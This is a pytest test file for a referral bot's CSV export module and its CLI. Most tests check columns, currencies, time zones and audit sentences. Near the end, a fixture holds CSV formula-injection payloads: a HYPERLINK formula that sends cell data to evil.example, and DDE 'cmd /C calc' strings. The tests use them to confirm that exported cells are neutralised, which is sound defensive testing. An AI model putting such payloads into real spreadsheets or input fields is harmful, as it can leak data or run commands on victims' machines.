"""CSV exports of the records (`bot.ops.exports`) and `referral-bot export`."""

from __future__ import annotations

import codecs
import csv
import io
import json
import sqlite3
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.cli import main
from bot.domain.accounts import Account, AccountStatus, Cash, Referrer
from bot.domain.withdrawals import Amounts, Kind
from bot.ops.exports import COLUMNS, latest_audit, local_time, write_csv
from bot.records.store import AccountBook, AuditLog, Database
from bot.records.withdrawals import WithdrawalBook

ZONE = "Asia/Shanghai"
SEEN = datetime(2026, 11, 22, 1, 0, tzinfo=UTC)  # 09:00 in Shanghai


@pytest.fixture
def database(tmp_path: Path):
    db = Database(str(tmp_path / "bot.db"))
    yield db
    db.close()


def seed(database: Database) -> None:
    accounts = AccountBook(database)
    accounts.remember(
        Account(
            "6900001",
            AccountStatus.ENABLED,
            points=1200,
            cash=(Cash("USD", Decimal("12.5")), Cash("CNY", Decimal("300"))),
            referrer=Referrer("ou_hire", "张三", "Zhang San", "hire@open.com", "+8618900001111"),
        ),
        seen_at=SEEN,
        contact="hire@open.com",
        registered_by="ou_admin",
    )
    accounts.remember(Account("6900002", AccountStatus.DISABLED), seen_at=SEEN)
    book = WithdrawalBook(database)
    request = book.create(
        "6900001",
        Kind.ALL,
        Amounts(1200, (Cash("CNY", Decimal("300")),)),
        requested_by="ou_admin",
        chat_id="oc_hr",
    )
    book.approve(request.id, "ou_boss", then=lambda _: None)
    book.withdrawn(request.id, SEEN, Amounts(1000, (Cash("CNY", Decimal("250.5")),)))
    AuditLog(database).record(
        actor="ou_admin", action="show", outcome="ok", account_id="6900001", chat_id="oc_hr"
    )


def export(kind: str, database: Database) -> bytes:
    out = io.BytesIO()
    write_csv(kind, database, ZONE, out)
    return out.getvalue()


def rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_accounts_one_row_per_currency_points_once(database: Database):
    seed(database)
    data = export("accounts", database)
    assert data.startswith(codecs.BOM_UTF8 + b"account_id,status,referrer_name_zh,")
    assert "张三".encode() in data
    table = rows(data)
    assert list(table[0]) == list(COLUMNS["accounts"])
    first, second, other = table
    assert (first["account_id"], first["points"], first["cash_currency"], first["cash_amount"]) == (
        "6900001",
        "1200",
        "CNY",
        "300.00",
    )
    assert (second["points"], second["cash_currency"], second["cash_amount"]) == (
        "",
        "USD",
        "12.50",
    )
    assert first["referrer_name_zh"] == "张三" and first["referrer_name_en"] == "Zhang San"
    assert first["status"] == "enabled" and first["registered_with"] == "hire@open.com"
    assert first["last_seen_at"] == "2026-11-22 09:00:00 +08:00"
    assert first["registered_at"] == "2026-11-22 09:00:00 +08:00"
    assert (other["account_id"], other["status"], other["points"], other["cash_amount"]) == (
        "6900002",
        "disabled",
        "0",
        "",
    )
    assert sum(int(r["points"] or 0) for r in table) == 1200  # finance can sum it


def test_withdrawals_show_what_was_paid_out(database: Database):
    seed(database)
    (row,) = rows(export("withdrawals", database))
    assert row["state"] == "withdrawn" and row["order_id"].startswith("rb-")
    assert (row["points"], row["cash_currency"], row["cash_amount"]) == ("1000", "CNY", "250.50")
    assert row["referrer_name_zh"] == "张三"
    assert row["paid_at"] == "2026-11-22 09:00:00 +08:00"
    assert row["approved_by"] == "ou_boss"


def test_audit_times_in_the_zone(database: Database):
    seed(database)
    (row,) = rows(export("audit", database))
    assert (row["actor"], row["action"], row["account_id"], row["outcome"]) == (
        "ou_admin",
        "show",
        "6900001",
        "ok",
    )
    assert row["at"].endswith(" +08:00")
    (entry,) = latest_audit(database)
    assert row["at"] == local_time(entry["at"], ZoneInfo(ZONE))


def test_audit_keeps_the_codes_beside_the_sentence(database: Database):
    seed(database)  # the records know 6900001 as 张三 / Zhang San
    AuditLog(database).record(
        actor="ou_admin",
        action="approve",
        outcome="refused",
        account_id="6900001",
        detail="withdrawal #1: own_request",
        via="button",
        facts={"why": "own_request", "request": 1},
    )
    show, refusal = rows(export("audit", database))
    assert list(refusal)[-1] == "sentence"
    assert (refusal["action"], refusal["outcome"], refusal["detail"]) == (
        "approve",
        "refused",
        "withdrawal #1: own_request",
    )
    assert refusal["sentence"] == (
        "ou_admin tried to approve withdrawal #1 for Zhang San (6900001): refused,"
        " the requester cannot approve their own request"
    )
    assert show["sentence"] == "ou_admin opened the card of Zhang San (6900001)"
    # The owner's name is the one the records had at the time.
    assert json.loads(latest_audit(database)[0]["facts"])["owner"] == {
        "en": "Zhang San",
        "zh": "张三",
    }


def test_an_older_audit_gains_its_facts_in_place(tmp_path: Path):
    path = tmp_path / "old.db"
    old = sqlite3.connect(path)
    old.execute(
        "CREATE TABLE audit (id INTEGER PRIMARY KEY, at TEXT, actor TEXT, action TEXT,"
        " account_id TEXT, outcome TEXT, detail TEXT, via TEXT, chat_id TEXT)"
    )
    old.execute(
        "INSERT INTO audit VALUES (1, '2026-11-22T01:00:00.000+00:00', 'ou_admin', 'export_file',"
        " NULL, 'sent', 'accounts: 4 records as a.csv', 'command', 'oc_hr')"
    )
    old.commit()
    old.close()
    database = Database(str(path))
    try:
        assert "facts" in database.db["audit"].columns_dict
        (row,) = rows(export("audit", database))
        assert row["detail"] == "accounts: 4 records as a.csv"
        assert row["sentence"] == "An export file was sent for ou_admin"
    finally:
        database.close()


def test_empty_tables_give_the_header_only(tmp_path: Path):
    database = Database(str(tmp_path / "empty.db"))  # no withdrawals table yet
    try:
        for kind in ("accounts", "withdrawals", "audit"):
            data = export(kind, database)
            assert data == codecs.BOM_UTF8 + (",".join(COLUMNS[kind]) + "\r\n").encode()
    finally:
        database.close()


def test_latest_audit_newest_first_and_per_account(database: Database):
    log = AuditLog(database)
    for i in range(25):
        log.record(actor="ou_admin", action="show", outcome="ok", account_id=str(i % 2))
    latest = latest_audit(database, limit=20)
    assert len(latest) == 20 and latest[0]["id"] == 25 and latest[-1]["id"] == 6
    assert {e["account_id"] for e in latest_audit(database, "1")} == {"1"}


def test_unknown_kind():
    with pytest.raises(ValueError):
        write_csv("people", None, ZONE, io.BytesIO())  # type: ignore[arg-type]


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("REFERRAL_BOT_CONFIG", raising=False)
    db = tmp_path / "bot.db"
    env = {
        "LARK_APP_ID": "cli_x",
        "LARK_APP_SECRET": "secret",
        "LARK_ENCRYPT_KEY": "key",
        "LARK_VERIFICATION_TOKEN": "token",
        "REFERRAL_BOT_DB": str(db),
        "REFERRAL_BOT_DIGEST_TZ": ZONE,
    }
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    database = Database(str(db))
    seed(database)
    yield database
    database.close()


def test_cli_to_stdout(cli_env: Database, capsysbinary):
    assert main(["export", "accounts"]) == 0
    out, err = capsysbinary.readouterr()
    assert err == b""
    assert out == export("accounts", cli_env)
    assert "张三".encode() in out and b"300.00" in out


def test_cli_to_a_file(cli_env: Database, tmp_path: Path, capsysbinary):
    assert main(["export", "withdrawals", "--out", "w.csv"]) == 0
    assert capsysbinary.readouterr().out == b""
    assert (tmp_path / "w.csv").read_bytes() == export("withdrawals", cli_env)


def test_cli_bad_settings_exit_2_one_line(cli_env: Database, monkeypatch, capsys):
    monkeypatch.delenv("LARK_APP_ID")
    assert main(["export", "audit"]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err == "referral-bot: missing required setting LARK_APP_ID (environment or app.yaml)\n"


def test_cli_unwritable_out_exit_2(cli_env: Database, capsys):
    assert main(["export", "audit", "--out", "no/such/dir/a.csv"]) == 2
    assert capsys.readouterr().err.startswith("referral-bot: cannot write no/such/dir/a.csv")


# A name, a reason and a detail a stranger (or Feishu, passing on what someone typed) could give.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = {
    "name_zh": FORMULA,
    "name_en": "+1+cmd|' /C calc'!A0",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mobile": "-2+3",
    "contact": "\t=1+1",
    "detail": "\r=1+1",
}


def hostile_seed(database: Database) -> None:
    accounts = AccountBook(database)
    referrer = Referrer(
        "ou_evil", HOSTILE["name_zh"], HOSTILE["name_en"], HOSTILE["email"], HOSTILE["mobile"]
    )
    accounts.remember(
        Account(
            "6900009",
            AccountStatus.ENABLED,
            points=-5,
            cash=(Cash("CNY", Decimal("-5")),),
            referrer=referrer,
        ),
        seen_at=SEEN,
        contact=HOSTILE["contact"],
        registered_by="ou_admin",
    )
    book = WithdrawalBook(database)
    request = book.create(
        "6900009",
        Kind.CASH,
        Amounts(0, (Cash("CNY", Decimal("-5")),)),
        requested_by="ou_admin",
        chat_id="oc_hr",
    )
    book.approve(request.id, "ou_boss", then=lambda _: None)
    book.failed(request.id, "-Feishu said =no")
    AuditLog(database).record(
        actor="ou_admin",
        action="register",
        outcome="=1+1",
        account_id="6900009",
        detail=HOSTILE["detail"],
        chat_id="oc_hr",
    )


def assert_no_formula(table: list[dict[str, str]], numbers: tuple[str, ...]) -> None:
    """No text cell starts as a formula would; the number columns hold plain numbers."""
    for row in table:
        for column, value in row.items():
            if column in numbers:
                assert value == "" or Decimal(value).is_finite(), (column, value)
            else:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_text_that_reads_as_a_formula_is_neutralised_in_every_export(database: Database):
    hostile_seed(database)
    (account,) = rows(export("accounts", database))
    assert account["referrer_name_zh"] == "'" + FORMULA
    assert account["referrer_name_en"] == "'" + HOSTILE["name_en"]
    assert account["referrer_email"] == "'" + HOSTILE["email"]
    assert account["referrer_mobile"] == "'-2+3"
    assert account["registered_with"] == "'\t=1+1"
    # Numbers stay numbers, a negative amount included: a sum over the column still works.
    assert (account["points"], account["cash_amount"]) == ("-5", "-5.00")
    assert_no_formula([account], ("points", "cash_amount"))

    (withdrawal,) = rows(export("withdrawals", database))
    assert withdrawal["referrer_name_zh"] == "'" + FORMULA
    assert withdrawal["error"] == "'-Feishu said =no"
    assert withdrawal["cash_amount"] == "-5.00" and withdrawal["withdrawal_id"] == "1"
    assert_no_formula([withdrawal], ("withdrawal_id", "points", "cash_amount"))

    (entry,) = rows(export("audit", database))
    assert entry["detail"] == "'\r=1+1" and entry["outcome"] == "'=1+1"
    assert_no_formula([entry], ("id",))


def test_a_cell_of_plain_text_or_a_number_is_left_alone():
    from bot.ops.cells import cell, neutralise

    assert neutralise("Zhang San") == "Zhang San" and neutralise("") == ""
    assert neutralise("a=b") == "a=b"  # only the first character makes a formula
    assert [neutralise(c + "x") for c in "=+-@\t\r"] == ["'" + c + "x" for c in "=+-@\t\r"]
    assert (cell(-5), cell(Decimal("-5.00")), cell(None), cell("-5")) == ("-5", "-5.00", "", "'-5")


def test_cli_export_neutralises_formulas(cli_env: Database, capsysbinary):
    hostile_seed(cli_env)
    for kind, numbers in (
        ("accounts", ("points", "cash_amount")),
        ("withdrawals", ("withdrawal_id", "points", "cash_amount")),
        ("audit", ("id",)),
    ):
        assert main(["export", kind]) == 0
        out = capsysbinary.readouterr().out
        assert out == export(kind, cli_env)
        table = rows(out)
        assert len(table) >= 2
        assert_no_formula(table, numbers)
